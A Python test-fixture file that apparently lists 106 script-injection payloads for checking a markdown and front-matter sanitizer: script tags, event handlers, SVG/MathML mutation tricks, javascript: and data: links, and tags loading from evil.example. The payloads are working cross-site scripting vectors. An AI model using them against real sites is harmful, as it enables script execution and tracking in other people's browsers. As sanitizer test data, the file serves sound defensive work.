"""106 kinds of script injection: what an author must not be able to make a reader's browser do.

Each is (id, kind, text). Kind "markdown" is an article's body; "front matter" is YAML lines
that go beside `audience: public`; those without a `title:` line need one. Each that could run
calls `alert(1)` or loads something from https://evil.example/.
"""

EVIL = "https://evil.example"

_HTML = (
    ("script", "<script>alert(1)</script>"),
    ("script-src", f'<script src="{EVIL}/x.js"></script>'),
    ("script-upper", "<SCRIPT>alert(1)</SCRIPT>"),
    ("script-slash", "<script/x>alert(1)</script>"),
    ("script-nested", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-unclosed", "<script>alert(1)"),
    ("script-in-paragraph", "text <script>alert(1)</script> text"),
    ("script-module", f'<script type="module">import "{EVIL}/m.js"</script>'),
    ("script-after-null", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-quoted", '<img src="x" onerror="alert(1)">'),
    ("img-slashes", "<img/src=x/onerror=alert(1)>"),
    ("img-newline", "<img src=x\nonerror\n=\nalert(1)>"),
    ("img-backtick", "<img src=`x` onerror=`alert(1)`>"),
    ("img-srcset", f'<img srcset="{EVIL}/s.png 1x">'),
    ("img-external", f'<img src="{EVIL}/track.png">'),
    ("img-protocol-relative", '<img src="//evil.example/track.png">'),
    ("img-backslashes", r'<img src="\\evil.example\track.png">'),
    ("img-slash-backslash", r'<img src="/\evil.example/track.png">'),
    ("img-lowsrc-dynsrc", f'<img dynsrc="{EVIL}/d" lowsrc="{EVIL}/l">'),
    ("img-upper", '<IMG SRC="javascript:alert(1);">'),
    ("body-onload", "<body onload=alert(1)>"),
    ("input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("select-autofocus", "<select autofocus onfocus=alert(1)>"),
    ("textarea-autofocus", "<textarea autofocus onfocus=alert(1)></textarea>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    ("video-onerror", "<video><source onerror=alert(1)></video>"),
    ("video-poster", f'<video poster="{EVIL}/p.png" src="{EVIL}/v.mp4"></video>'),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    ("div-onpointerover", '<div onpointerover="alert(1)">x</div>'),
    ("div-onanimation", '<div style="animation-name:x" onanimationstart=alert(1)>x</div>'),
    ("iframe-src", f'<iframe src="{EVIL}/"></iframe>'),
    ("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>'),
    ("object-data", f'<object data="{EVIL}/o"></object>'),
    ("object-javascript", '<object data="javascript:alert(1)"></object>'),
    ("embed-src", '<embed src="javascript:alert(1)">'),
    ("meta-refresh", f'<meta http-equiv="refresh" content="0;url={EVIL}/">'),
    ("meta-refresh-script", '<meta http-equiv=refresh content="0;url=javascript:alert(1)">'),
    ("base-href", f'<base href="{EVIL}/">'),
    ("link-stylesheet", f'<link rel="stylesheet" href="{EVIL}/s.css">'),
    ("link-prefetch", f'<link rel="dns-prefetch" href="{EVIL}/">'),
    ("form-action", '<form action="javascript:alert(1)"><button>x</button></form>'),
    ("button-formaction", '<button formaction="javascript:alert(1)">x</button>'),
    ("form-clobbering", '<form id="body"><input name="innerHTML" value="<script>"></form>'),
    ("name-clobbering", '<img name="cookie"><a id="location" name="location" href="x">x</a>'),
    ("isindex", "<isindex type=image src=1 onerror=alert(1)>"),
    ("keygen-autofocus", "<keygen autofocus onfocus=alert(1)>"),
    ("table-background", f'<table background="{EVIL}/b.png"><tr><td>x</td></tr></table>'),
    ("custom-element", "<x-y onclick=alert(1) style=display:block>x</x-y>"),
    ("contenteditable", "<b contenteditable onblur=alert(1) autofocus>x</b>"),
    ("popover", "<button popovertarget=x>b</button><p popover id=x onbeforetoggle=alert(1)>y</p>"),
    ("template-shadow", "<div><template shadowrootmode=open><img src=x onerror=alert(1)></div>"),
    ("unclosed-quote", '<a href="x" title="<img src=x onerror=alert(1)>">x</a>'),
    ("attribute-breakout", '<p title="\'"><img src=x onerror=alert(1)>">'),
    ("comment-breakout", "<!--><img src=x onerror=alert(1)>-->"),
    ("comment-dashes", "<!-- --!><img src=x onerror=alert(1)> -->"),
    ("conditional-comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("processing-instruction", "<?xml version='1.0'?><?x <img src=x onerror=alert(1)>?>"),
    ("doctype", "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;"),
)
_MUTATION = (
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-script-entities", "<svg><script>&#97;lert(1)</script></svg>"),
    ("svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>"),
    ("svg-set-href", "<svg><a><set attributeName=href to=javascript:alert(1) /><text>x</text></a>"),
    ("svg-use", f'<svg><use href="{EVIL}/x.svg#x"/></svg>'),
    ("svg-image", f'<svg><image href="{EVIL}/x.png"/></svg>'),
    (
        "svg-foreign-object",
        "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    ),
    ("svg-style", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    ("svg-title", "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>"),
    ("svg-p-style", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
    ("math-href", '<math href="javascript:alert(1)">x</math>'),
    ("math-maction", '<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">'),
    (
        "math-mglyph",
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    ),
    (
        "form-math-mutation",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    ),
    ("noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
    ("noembed", '<noembed><a title="</noembed><img src=x onerror=alert(1)>"></noembed>'),
    ("xmp", '<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>'),
    ("textarea", '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>'),
    ("plaintext", "<plaintext><img src=x onerror=alert(1)>"),
    ("template", "<template><script>alert(1)</script></template>"),
)
_LINKS = (
    ("link-javascript", "[x](javascript:alert(1))"),
    ("link-javascript-case", "[x](JaVaScRiPt:alert(1))"),
    ("link-javascript-entity", "[x](&#106;avascript:alert(1))"),
    ("link-javascript-colon", "[x](javascript&colon;alert(1))"),
    ("link-javascript-tab", '<a href="java&#9;script:alert(1)">x</a>'),
    ("link-javascript-control", '<a href="&#1;javascript:alert(1)">x</a>'),
    ("link-vbscript", "[x](vbscript:alert(1))"),
    ("link-data", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("link-title-breakout", "[x](https://example.com 'a\" onmouseover=\"alert(1)')"),
    ("reference-javascript", "[x][1]\n\n[1]: javascript:alert(1)"),
    ("autolink-javascript", "<javascript:alert(1)>"),
    ("image-javascript", "![x](javascript:alert(1))"),
    ("image-alt-breakout", '![x" onerror="alert(1)](x)'),
    ("image-external", f"![x]({EVIL}/track.png)"),
    (
        "attr-list-handler",
        'text\n{: onclick="alert(1)" style="background:url(https://evil.example)" }',
    ),
    ("attr-list-heading", "# x {: #y onmouseover=alert(1) }\n\n## z {: onmouseover=alert(1) }"),
    ("code-language", '```x"><img/src=x/onerror=alert(1)>\ncode\n```'),
    ("directive-image", ':::image source="x" alt-text="<img src=x onerror=alert(1)>":::'),
    ("footnote", "a[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: b"),
)
_FRONT_MATTER = (
    ("title", "title: <img src=x onerror=alert(1)>"),
    ("description", "description: '\"><script>alert(1)</script>'"),
    ("tags", 'tags: ["<svg onload=alert(1)>", "\'onmouseover=\'alert(1)"]'),
    ("questions", "questions: ['</title><script>alert(1)</script>']"),
)

PAYLOADS: tuple[tuple[str, str, str], ...] = tuple(
    (name, kind, text)
    for kind, group in (
        ("markdown", (*_HTML, *_MUTATION, *_LINKS)),
        ("front matter", _FRONT_MATTER),
    )
    for name, text in group
)
